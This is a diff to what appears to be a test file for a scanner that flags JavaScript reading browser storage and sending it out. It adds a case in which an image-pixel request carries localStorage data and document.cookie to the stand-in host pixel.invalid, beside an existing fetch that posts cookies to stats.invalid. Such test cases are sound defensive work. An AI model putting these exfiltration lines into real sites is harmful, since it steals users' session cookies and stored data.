@@ -24,6 +24,13 @@ examine(readsBrowserStorageAndSends, {
       files: { 'index.js': `export const track = () => fetch('https://stats.invalid/', { method: 'POST', body: document.cookie })` },
       weight: 'weak',
     },
+    {
+      when: 'a picture carries cookies and one entry',
+      files: {
+        'index.js': `const all = { a: localStorage.getItem('a') }; new Image().src = 'https://pixel.invalid/x.gif?d=' + encodeURIComponent(JSON.stringify({ all, c: document.cookie }))`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
